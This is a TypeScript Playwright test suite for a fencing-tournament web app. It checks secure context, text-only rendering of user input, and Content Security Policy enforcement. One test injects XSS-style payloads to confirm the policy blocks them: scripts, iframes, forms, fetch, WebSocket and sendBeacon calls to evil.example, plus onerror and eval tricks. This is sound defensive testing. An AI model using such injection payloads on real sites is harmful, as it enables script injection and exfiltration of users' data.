/**
 * Every page in real Chromium where it is secure and where it is not: its own policy stops nothing of ours and everything
 * of others, and what people wrote is text on it.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { launchBrowser } from "../support/browser.ts";
import { openPages, WRITTEN, type Door, type OpenPages } from "../security/support/hostile-evening.ts";

interface Opened {
  readonly page: Page;
  /** Whatever the browser found wrong. */
  readonly problems: string[];
  /** Addresses that were asked for, sockets too. */
  readonly asked: string[];
  /** Sockets that were open and heard something. */
  readonly sockets: Set<string>;
}

/** A violation, by the directive that it was held against. */
type Held = { readonly violations?: string[]; readonly called?: number[] };

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser(
    "--host-resolver-rules=MAP hall.test 127.0.0.1",
    "--ignore-certificate-errors",
  );
});
afterAll(() => browser.close());

async function open(context: BrowserContext, url: string): Promise<Opened> {
  const page = await context.newPage();
  const opened: Opened = { page, problems: [], asked: [], sockets: new Set() };
  page.on("console", (message) => {
    const warns = message.type() === "warning" && /policy|header|mixed|secure/i.test(message.text());
    if (message.type() === "error" || warns) opened.problems.push(message.text());
  });
  page.on("pageerror", (error) => opened.problems.push(error.message));
  page.on("dialog", (dialog) => {
    opened.problems.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => opened.asked.push(request.url()));
  page.on("requestfailed", (request) => opened.problems.push(`failed: ${request.url()}`));
  page.on("websocket", (socket) => {
    opened.asked.push(socket.url());
    socket.on("framereceived", () => opened.sockets.add(socket.url()));
  });
  await page.goto(url);
  return opened;
}

/** Runs in every page before its own scripts. */
function watch(): void {
  const held = { violations: [] as string[], called: [] as number[] };
  Object.assign(window, { held, zq: (n: number) => held.called.push(n) });
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
    held.violations.push(`${effectiveDirective} ${blockedURI}`),
  );
}

const heldOn = (page: Page): Promise<Held> =>
  page.evaluate(() => (window as unknown as { held: Held }).held ?? {});

/** What the page says to eyes and to screen readers. */
const words = (page: Page): Promise<string> =>
  page.evaluate(() =>
    [
      document.title,
      document.body.innerText,
      ...[...document.querySelectorAll("[aria-label]")].map((each) => each.getAttribute("aria-label") ?? ""),
      ...[...document.querySelectorAll("option")].map((each) => each.textContent),
    ]
      .join(" ")
      .replace(/\s+/g, " "),
  );

const shows = (page: Page, text: string): Promise<void> =>
  expect.poll(() => words(page), { timeout: 20_000, message: `shows ${text}` }).toContain(text);

/** Elements that no page of ours has. */
const strange = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() =>
    [
      ...document.querySelectorAll(
        "zq-el, iframe, object, embed, img[src='x'], script:not([src]), style, [onerror], [onload], [onclick], [ontoggle], a[href^='javascript:']",
      ),
    ].map((each) => each.outerHTML.slice(0, 200)),
  );

const KINDS = ["coach", "table", "judge", "fencer", "wall"] as const;
/** Where each page shows what was written, before and after the next bout is called. */
const SAYS: Readonly<Record<(typeof KINDS)[number], readonly string[]>> = {
  coach: [
    WRITTEN.evening,
    WRITTEN.ring,
    WRITTEN.otherRing,
    WRITTEN.red,
    WRITTEN.blue,
    WRITTEN.third,
    WRITTEN.ruleSet,
  ],
  table: [WRITTEN.ring, WRITTEN.red, WRITTEN.blue],
  judge: [WRITTEN.ring],
  fencer: [WRITTEN.red, WRITTEN.blueShort, WRITTEN.rule],
  wall: [WRITTEN.evening, WRITTEN.redShort, WRITTEN.blueShort, WRITTEN.thirdShort],
};

const DOORS: readonly Door[] = ["this machine", "the hall over http", "the hall over https"];
describe.each(DOORS)("%s", (door) => {
  let evening: OpenPages;
  let context: BrowserContext;
  const pages = new Map<string, Opened>();
  const at = (name: string): Opened => {
    const found = pages.get(name);
    if (found === undefined) throw new Error(`no page ${name}`);
    return found;
  };

  beforeAll(async () => {
    evening = await openPages(door);
    context = await browser.newContext({ ignoreHTTPSErrors: true });
    await context.addInitScript(watch);
    for (const kind of KINDS) pages.set(kind, await open(context, evening.origin + evening.path(kind)));
    pages.set("style", await open(context, `${evening.origin}/style`));
  });
  afterAll(async () => {
    await context.close();
    await evening.close();
  });

  test("is, or is not, a secure context", async () => {
    const secure = await at("wall").page.evaluate(() => window.isSecureContext);
    expect(secure).toBe(door !== "the hall over http");
  });

  test.each(KINDS)("[W34] the %s's page shows what was written as text", async (kind) => {
    const { page } = at(kind);
    for (const text of SAYS[kind]) await shows(page, text.replace(/\s+/g, " "));
    expect(await strange(page)).toEqual([]);
  });

  test("[W34] so does whatever comes while it is open", async () => {
    await evening.coach({ type: "AddRing", ring: "r9", name: WRITTEN.lateRing });
    await shows(at("coach").page, WRITTEN.lateRing);
    await evening.callNext();
    await shows(at("wall").page, WRITTEN.thirdShort);
    await shows(at("coach").page, WRITTEN.third);
    for (const part of ["rules", "fencers", "seats", "status"]) {
      await at("coach").page.goto(`${evening.origin}${evening.path("coach")}#${part}`);
      await shows(at("coach").page, WRITTEN.evening);
      expect(await strange(at("coach").page)).toEqual([]);
    }
    for (const [, { page }] of pages) {
      expect(await strange(page)).toEqual([]);
      expect((await heldOn(page)).called).toEqual([]);
    }
  });

  test("[W2] its policy holds nothing of ours back, every socket is open, and nothing else is asked for", async () => {
    for (const kind of KINDS)
      await expect.poll(() => at(kind).sockets.size, { message: kind }).toBeGreaterThan(0);
    const { host, protocol } = new URL(evening.origin);
    for (const [name, { page, problems, asked }] of pages) {
      expect((await heldOn(page)).violations, name).toEqual([]);
      expect(problems, name).toEqual([]);
      const others = asked
        .map((url) => new URL(url))
        .filter((url) => url.protocol !== "data:" && url.protocol !== "blob:");
      expect(new Set(others.map((url) => url.host)), name).toEqual(new Set([host]));
      // Never upgraded where there is no https, never downgraded where there is.
      const schemes = protocol === "https:" ? ["https:", "wss:"] : ["http:", "ws:"];
      expect(others.filter((url) => !schemes.includes(url.protocol)).map(String), name).toEqual([]);
    }
  });

  // Every kind of page at one door, two of them at the others: the policy is the same.
  const spoilt = door === "this machine" ? [...KINDS, "style", "no seat"] : ["table", "wall"];
  test.each(spoilt)("[W2] what is put into the %s page from outside does nothing", async (name) => {
    const url = name === "no seat" ? `${evening.origin}/seat/AAAAAAAAAAAAAAAAAAAAAA` : at(name).page.url();
    const { page } = await open(context, url);
    await page.evaluate(() => {
      const put = (tag: string, attributes: Readonly<Record<string, string>>, text = ""): void => {
        const element = document.createElement(tag);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        element.textContent = text;
        document.body.append(element);
      };
      put("script", {}, "zq(1)");
      put("script", { src: "https://evil.example/x.js" });
      put("script", { src: "data:text/javascript,zq(2)" });
      put("style", {}, "body { outline: 3px solid red }");
      put("p", { style: "outline: 3px solid red", id: "styled" });
      put("link", { rel: "stylesheet", href: "https://evil.example/x.css" });
      put("img", { src: "https://evil.example/x.png" });
      put("img", { src: "data:,", onerror: "zq(3)" });
      put("iframe", { src: "https://evil.example/" });
      put("object", { data: "https://evil.example/" });
      put("audio", { src: "https://evil.example/x.wav" });
      put("form", { action: "https://evil.example/", id: "form" });
      put("base", { href: "https://evil.example/" });
      document.querySelector<HTMLFormElement>("#form")?.submit();
      void fetch("https://evil.example/").catch(() => undefined);
      try {
        const socket = new WebSocket("wss://evil.example/");
        socket.addEventListener("open", () => put("zq-el", {}));
      } catch {
        // Some browsers throw, some report; the report is what is looked at.
      }
      navigator.sendBeacon("https://evil.example/", "x");
      // From a task of the page's own, for what a debugger runs may make code of text.
      setTimeout(() => {
        const makers = [
          () => Reflect.apply(Reflect.get(window, "eval") as (text: string) => unknown, window, ["zq(4)"]),
          () =>
            (
              Reflect.construct((() => undefined).constructor as FunctionConstructor, ["zq(5)"]) as () => void
            )(),
        ];
        for (const make of makers) {
          try {
            make();
          } catch {
            // As it must be.
          }
        }
      });
    });
    const directives = async (): Promise<readonly string[]> =>
      [...new Set(((await heldOn(page)).violations ?? []).map((each) => each.split(" ")[0] ?? ""))].sort();
    await expect
      .poll(directives, { timeout: 20_000 })
      .toEqual([
        "base-uri",
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "media-src",
        "object-src",
        "script-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-attr",
        "style-src-elem",
      ]);
    expect((await heldOn(page)).called).toEqual([]);
    const outlines = await page.evaluate(() =>
      [document.body, ...document.querySelectorAll("#styled")].map(
        (each) => getComputedStyle(each).outlineStyle,
      ),
    );
    expect(outlines).toEqual(["none", "none"]);
    await page.close();
  });
});
